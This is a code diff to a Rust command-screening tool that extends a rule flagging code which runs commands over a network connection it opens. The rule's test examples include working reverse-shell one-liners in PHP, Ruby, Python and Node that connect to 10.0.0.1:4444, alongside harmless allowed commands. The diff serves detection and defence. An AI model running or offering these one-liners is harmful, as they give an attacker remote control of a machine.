@@ -92,7 +92,41 @@ fn socket_shell(c: &Command, _: &Scope) -> Option<String> {
     ]
     .iter()
     .any(|m| code.contains(m));
-    (socket && shell).then(|| format!("`{p}` code connects a shell to a socket"))
+    if socket && shell {
+        return Some(format!("`{p}` code connects a shell to a socket"));
+    }
+    // A connection made and commands run in the same one-liner: what it runs is what it reads
+    // (`while cmd = c.gets; IO.popen(cmd)`), a shell by other means.
+    // A socket's connection, not a database's (`sqlite3.connect`, `psycopg2.connect`).
+    let sockets = ["socket", "Socket", "fsockopen", "\"net\"", "'net'"]
+        .iter()
+        .any(|m| code.contains(m));
+    let connects = sockets
+        && [
+            "connect(",
+            "TCPSocket.new",
+            "TCPSocket.open",
+            "fsockopen",
+            "net.createConnection",
+            "Socket.new",
+        ]
+        .iter()
+        .any(|m| code.contains(m));
+    let runs = [
+        "popen",
+        "subprocess.",
+        "os.system",
+        "child_process",
+        "Open3.",
+        "system(",
+        "shell_exec",
+        "passthru",
+        "exec(",
+        "spawn(",
+    ]
+    .iter()
+    .any(|m| code.contains(m));
+    (connects && runs).then(|| format!("`{p}` code runs commands over a connection it opens"))
 }
 
 /// `mkfifo f; cat f | sh -i 2>&1 | nc host port > f`: a shell in a pipeline with a socket.
@@ -570,8 +604,27 @@ pub static RULES: &[Rule] = &[
             Example::bash(
                 "php -r '$s=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
             ),
+            // Commands read from the connection and run, with no shell named.
+            Example::bash(
+                "ruby -rsocket -e 'c=TCPSocket.new(\"10.0.0.1\",4444);while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end'",
+            ),
+            Example::bash(
+                "python3 -c 'import socket,subprocess;s=socket.socket();s.connect((\"10.0.0.1\",4444));[s.send(subprocess.check_output(s.recv(1024),shell=True)) for _ in iter(int,1)]'",
+            ),
+            Example::bash(
+                "node -e 'const c=require(\"net\").connect(4444,\"10.0.0.1\");c.on(\"data\",d=>c.write(require(\"child_process\").execSync(d.toString())))'",
+            ),
         ],
         allowed: &[
+            Example::bash(
+                "python3 -c 'import socket, subprocess; print(socket.gethostname()); subprocess.run([\"ls\"])'",
+            ),
+            Example::bash(
+                "python3 -c 'import socket; s = socket.create_connection((\"localhost\", 5432)); print(\"up\")'",
+            ),
+            Example::bash(
+                "python3 -c 'import sqlite3, subprocess; sqlite3.connect(\"app.db\"); subprocess.run([\"make\"])'",
+            ),
             Example::bash("nc -zv localhost 5432"),
             Example::bash("nc -l 8080"),
             Example::bash("socat - TCP:localhost:6379"),
